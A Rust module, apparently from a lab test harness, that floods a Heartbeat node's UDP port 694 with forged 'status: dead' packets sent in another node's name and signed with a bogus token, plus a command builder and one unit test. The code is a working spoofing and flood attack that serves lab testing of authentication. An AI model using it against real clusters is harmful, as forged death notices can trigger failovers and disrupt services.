//! A sender without the key: well-formed status packets in the name of a node, signed with nothing
//! that anybody has. Runs inside a node of the lab. I/O: a socket and the clock.

#![expect(clippy::disallowed_methods, reason = "sends for a while")]

use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::process::ExitCode;
use std::thread;
use std::time::{Duration, Instant};

use hb_cli::lab;

/// First argument of a process that floods: `--flood ADDRESS NODE SECONDS`.
const FLAG: &str = "--flood";
/// Heartbeat's port.
const PORT: u16 = 694;
/// Two thousand packets in a second are four hundred times what a busy node sends, and what 3.0.6
/// can still write a log line for.
const BURST: usize = 100;
const REST: Duration = Duration::from_millis(50);

/// What floods the node of index `target` in the name of `sender`, as a command of a shell in a
/// node.
pub fn command(target: usize, sender: &str, time: Duration) -> String {
    let (folder, program) = (lab::PROGRAMS, lab::SELF);
    let address = lab::heartbeat_address(target + 1);
    format!("{folder}/{program} {FLAG} {address} {sender} {}", time.as_secs())
}

/// Floods when this process was started for that. Call it first thing in `main`.
pub fn send_if_asked() -> Option<ExitCode> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [flag, address, sender, seconds] = args.as_slice() else { return None };
    if flag != FLAG {
        return None;
    }
    let (Ok(address), Ok(seconds)) = (address.parse(), seconds.parse()) else {
        return Some(ExitCode::from(2));
    };
    let sent = send(address, sender, Duration::from_secs(seconds));
    Some(if sent.is_ok() { ExitCode::SUCCESS } else { ExitCode::FAILURE })
}

fn send(address: Ipv4Addr, sender: &str, time: Duration) -> std::io::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    let begin = Instant::now();
    let mut sequence = 1_u32;
    while begin.elapsed() < time {
        for _ in 0..BURST {
            // What is refused is tried no second time: the next one is as good.
            let _ = socket
                .send_to(packet(sender, sequence).as_bytes(), SocketAddrV4::new(address, PORT));
            sequence = sequence.wrapping_add(1);
        }
        thread::sleep(REST);
    }
    Ok(())
}

/// A death notice that would move every group, if anybody believed it.
fn packet(sender: &str, sequence: u32) -> String {
    let token = "0123456789abcdef0123456789abcdef01234567";
    format!(
        ">>>\nt=status\nst=dead\ndt=2710\nprotocol=1\nsrc={sender}\nseq={sequence:x}\nhg=7fffffff\n\
         ts=7fffffff\nld=0.00 0.00 0.00 1/1 1\nttl=3\nauth=1 {token}\n<<<\n\0"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_names_the_other_node_as_it_is_known() {
        assert_eq!(
            command(1, "node1", Duration::from_secs(9)),
            "/twinbeat/lab --flood 198.51.100.2 node1 9"
        );
    }
}
